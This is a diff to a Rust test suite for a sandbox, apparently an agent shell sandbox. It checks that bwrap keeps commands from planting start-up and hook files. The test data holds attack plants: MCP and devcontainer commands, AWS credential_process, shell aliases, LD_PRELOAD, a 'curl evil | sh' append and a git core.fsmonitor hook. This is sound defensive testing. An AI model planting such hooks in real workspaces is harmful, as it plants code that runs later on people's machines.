@@ -61,6 +61,9 @@ fn repository(dir: &Path, user: User) {
     std::fs::write(dir.join(".bashrc"), "# the person's own\n").unwrap();
     std::fs::write(dir.join(".vscode/tasks.json"), "{}\n").unwrap();
     std::fs::write(dir.join("README"), "hello\n").unwrap();
+    std::fs::write(dir.join("team.code-workspace"), "{}\n").unwrap();
+    std::fs::create_dir_all(dir.join(".cache/tool")).unwrap();
+    std::fs::write(dir.join(".cache/tool/run.sh"), "#!/bin/sh\n").unwrap();
     std::fs::write(dir.join("scripts/pre-commit"), "#!/bin/sh\n").unwrap();
     std::fs::write(
         dir.join(".gitmodules"),
@@ -86,6 +89,8 @@ fn repository(dir: &Path, user: User) {
         ".vscode/tasks.json",
         "scripts",
         ".gitmodules",
+        "team.code-workspace",
+        ".cache",
     ]);
     git(&["commit", "-qm", "first"]);
     git(&["config", "core.hooksPath", ".githooks"]);
@@ -200,7 +205,60 @@ const PLANTS: &[(&str, &str)] = &[
         "a repository planted in a submodule",
         "rm -f lib/.git; git -C lib init -q && git -C lib config core.fsmonitor id",
     ),
+    // The agents' and editors' own configuration.
+    (
+        ".mcp.json (missing)",
+        "echo '{\"mcpServers\": {\"x\": {\"command\": \"id\"}}}' > .mcp.json",
+    ),
+    (
+        ".claude/settings.json hooks (missing)",
+        "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
+    ),
+    (
+        ".codex/config.toml (missing)",
+        "mkdir -p .codex && echo 'sandbox_mode = \"danger-full-access\"' > .codex/config.toml",
+    ),
+    (".cursor/mcp.json (missing)", "mkdir -p .cursor && echo '{}' > .cursor/mcp.json"),
+    (".vscode/mcp.json", "echo '{}' > .vscode/mcp.json"),
+    (".vscode/extensions.json", "echo '{}' > .vscode/extensions.json"),
+    (
+        ".devcontainer initializeCommand (missing)",
+        "mkdir -p .devcontainer && echo '{\"initializeCommand\": \"id\"}' > .devcontainer/devcontainer.json",
+    ),
+    (
+        "a .code-workspace file's tasks",
+        "echo '{\"tasks\": {\"runOn\": \"folderOpen\"}}' > team.code-workspace",
+    ),
+    (".hg/hgrc (missing)", "mkdir -p .hg && printf '[hooks]\\nupdate = id\\n' > .hg/hgrc"),
+    // A home's start-up surface, as a class.
+    (".bash_aliases (missing)", "echo 'alias ls=id' > .bash_aliases"),
+    (".local/bin (missing)", "mkdir -p .local/bin && echo id > .local/bin/git"),
+    (
+        ".config/systemd/user (missing)",
+        "mkdir -p .config/systemd/user && echo '[Service]' > .config/systemd/user/x.service",
+    ),
+    (
+        ".config/autostart (missing)",
+        "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
+    ),
+    (
+        ".aws/config credential_process (missing)",
+        "mkdir -p .aws && printf '[default]\\ncredential_process = id\\n' > .aws/config",
+    ),
+    (".kube/config exec (missing)", "mkdir -p .kube && echo 'users: []' > .kube/config"),
+    (".cargo/config.toml (missing)", "mkdir -p .cargo && echo '[alias]' > .cargo/config.toml"),
+    (".npmrc (missing)", "echo 'script-shell=/tmp/x' > .npmrc"),
+    (".vimrc (missing)", "echo '!id' > .vimrc"),
+    (".pam_environment (missing)", "echo 'LD_PRELOAD=/tmp/x' > .pam_environment"),
+    (
+        "an existing dot-entry of the home, whatever its name",
+        "echo 'curl evil | sh' >> .cache/tool/run.sh",
+    ),
 ];
+
+/// What a test must unprotect by name, beyond the default lists, to lift
+/// every protection the plants aim at (the classes' members).
+const CLASS_MEMBERS: &[&str] = &[".cache", "team.code-workspace"];
 
 /// A protected path that is a symlink (dotfiles linked in, a dangling
 /// `.envrc`) neither breaks commands nor is claimed kept: what it points
@@ -243,6 +301,7 @@ fn plants_work_unprotected(user: User) {
     let everything: Vec<&str> = dsh_sandbox::DEFAULT_PROTECTED_PATHS
         .iter()
         .chain(dsh_sandbox::HOME_PROTECTED_PATHS)
+        .chain(CLASS_MEMBERS)
         .flat_map(|path| ["--unprotect", path])
         .collect();
     for (name, command) in PLANTS {
@@ -258,11 +317,25 @@ fn plants_work_unprotected(user: User) {
     }
 }
 
-fn bwrap_keeps_them(user: User) {
-    plants_work_unprotected(user);
-    let tag = format!("bwrap-{user:?}");
+/// Every attempt, with (`beside`) or without another command running in
+/// the same workspace, started before the attempts and ending after them.
+fn bwrap_keeps_them(user: User, beside: bool) {
+    if !beside {
+        plants_work_unprotected(user);
+    }
+    let tag = format!("bwrap-{user:?}{}", if beside { "-beside" } else { "" });
     let ws = base().join(format!("protected-{tag}"));
     repository(&ws, user);
+    let release = base().join(format!("release-{tag}"));
+    let holder = beside.then(|| {
+        let holder = spawn_as(
+            user,
+            &ws,
+            &format!("while [ ! -e {} ]; do sleep 0.02; done", release.display()),
+        );
+        appears(&ws.join(".envrc"));
+        holder
+    });
     let before = tree(&ws);
     let mut broken = Vec::new();
     for (name, command) in PLANTS {
@@ -282,7 +355,16 @@ fn bwrap_keeps_them(user: User) {
             .filter_map(|p| p.as_str())
             .collect();
         let root = std::fs::canonicalize(&ws).unwrap();
-        for expected in [".git", ".bashrc", ".envrc", ".vscode/tasks.json", ".idea"] {
+        for expected in [
+            ".git",
+            ".bashrc",
+            ".envrc",
+            ".vscode",
+            ".idea",
+            ".mcp.json",
+            ".cache",
+            "team.code-workspace",
+        ] {
             let path = root.join(expected);
             assert!(
                 protected.contains(&path.to_str().unwrap()),
@@ -365,13 +447,21 @@ fn bwrap_keeps_them(user: User) {
         !inner.join("HEAD").exists(),
         "{tag}: the root became a bare repository: {bare}"
     );
+    if let Some(mut holder) = holder {
+        std::fs::write(&release, "").unwrap();
+        assert!(holder.wait().unwrap().success(), "{tag}: the holder failed");
+    }
     // No stand-in outlived its command.
     for missing in [
         ".envrc",
         ".zshrc",
         ".idea",
         ".dsh-bash",
-        ".vscode/settings.json",
+        ".mcp.json",
+        ".claude",
+        ".local",
+        ".aws",
+        ".bash_aliases",
     ] {
         assert!(
             !ws.join(missing).exists(),
@@ -395,7 +485,12 @@ fn appears(path: &Path) {
 
 /// `dsh-bash run` in the background, under bwrap in `ws`.
 fn spawn(ws: &Path, command: &str) -> std::process::Child {
-    as_user(User::Root, binary().to_str().unwrap())
+    spawn_as(User::Root, ws, command)
+}
+
+/// [`spawn`] as `user`.
+fn spawn_as(user: User, ws: &Path, command: &str) -> std::process::Child {
+    as_user(user, binary().to_str().unwrap())
         .args([
             "run",
             "--sandbox",
@@ -437,6 +532,57 @@ fn concurrent_commands_keep_each_others_stand_ins() {
             "{path}: planted by the second command, or a stand-in left behind"
         );
     }
+}
+
+/// Turns a workspace without a repository of its own into one whose
+/// `core.fsmonitor` a person's next `git status` there would run.
+const BARE_ROOT: &str = "rmdir HEAD; git init -q --bare .; git --git-dir=. config core.bare false; git --git-dir=. config core.worktree \"$PWD\"; git --git-dir=. config core.fsmonitor 'touch /tmp/dsh-pwned'";
+
+/// Git on the host, as a person would run it there, finds no repository at
+/// the root (the ceiling keeps it from looking above).
+fn root_stayed_no_repository(ws: &Path, when: &str, result: &serde_json::Value) {
+    let found = std::process::Command::new("git")
+        .args(["rev-parse", "--git-dir"])
+        .current_dir(ws)
+        .env("GIT_CEILING_DIRECTORIES", ws.parent().unwrap())
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .output()
+        .unwrap();
+    assert!(
+        !found.status.success() && !ws.join("HEAD").is_file(),
+        "{when}: the root became a repository ({}): {result}",
+        String::from_utf8_lossy(&found.stdout)
+    );
+}
+
+/// The root's `HEAD` stays protected while another command's `.git`
+/// stand-in is there, and after a killed server left one behind.
+fn head_holds_beside_another_command_and_after_a_kill() {
+    let ws = base().join("protected-head");
+    std::fs::create_dir_all(&ws).unwrap();
+    let release = base().join("protected-head-release");
+    let _ = std::fs::remove_file(&release);
+    let mut holder = spawn(
+        &ws,
+        &format!("while [ ! -e {} ]; do sleep 0.02; done", release.display()),
+    );
+    appears(&ws.join(".git"));
+    let result = run(User::Root, "bwrap", &ws, &[], BARE_ROOT);
+    root_stayed_no_repository(&ws, "beside another command", &result);
+    std::fs::write(&release, "").unwrap();
+    assert!(holder.wait().unwrap().success());
+    assert!(!ws.join(".git").exists(), "the holder's stand-in stayed");
+
+    let mut killed = spawn(&ws, "sleep 60");
+    appears(&ws.join(".git"));
+    killed.kill().unwrap();
+    killed.wait().unwrap();
+    assert!(
+        ws.join(".git").is_dir(),
+        "SIGKILL leaves the stand-in (the premise)"
+    );
+    let result = run(User::Root, "bwrap", &ws, &[], BARE_ROOT);
+    root_stayed_no_repository(&ws, "after a killed server", &result);
 }
 
 /// A hangup stops the command and cleans up; what an outright kill leaves
@@ -493,6 +639,7 @@ fn landlock_says_it_cannot(user: User) {
     let everything: Vec<&str> = dsh_sandbox::DEFAULT_PROTECTED_PATHS
         .iter()
         .chain(dsh_sandbox::HOME_PROTECTED_PATHS)
+        .chain(CLASS_MEMBERS)
         .flat_map(|path| ["--unprotect", path])
         .collect();
     let result = run(user, "landlock", &ws, &everything, "true");
@@ -520,10 +667,12 @@ fn protected_paths_hold_under_bwrap_and_landlock_says_it_cannot() {
     }
     for user in [User::Root, User::Nobody] {
         if usable(user, "bwrap") {
-            bwrap_keeps_them(user);
+            bwrap_keeps_them(user, false);
+            bwrap_keeps_them(user, true);
             if user == User::Root {
                 symlinked_protected_paths();
                 concurrent_commands_keep_each_others_stand_ins();
+                head_holds_beside_another_command_and_after_a_kill();
                 hangups_clean_up_and_kill_leftovers_are_reclaimed();
             }
         }
@@ -542,8 +691,8 @@ fn bad_protect_arguments_run_nothing_and_say_what_is_allowed() {
             "invalid protected path \"/etc/passwd\": it must be relative to the workspace root",
         ),
         (
-            vec!["--unprotect", ".nothing"],
-            "\".nothing\" is not a protected path; protected: .bash_login",
+            vec!["--unprotect", "nothing/deeper"],
+            "\"nothing/deeper\" is not a protected path; protected: .aws, .bash_aliases",
         ),
         (
             vec!["--network", "maybe"],
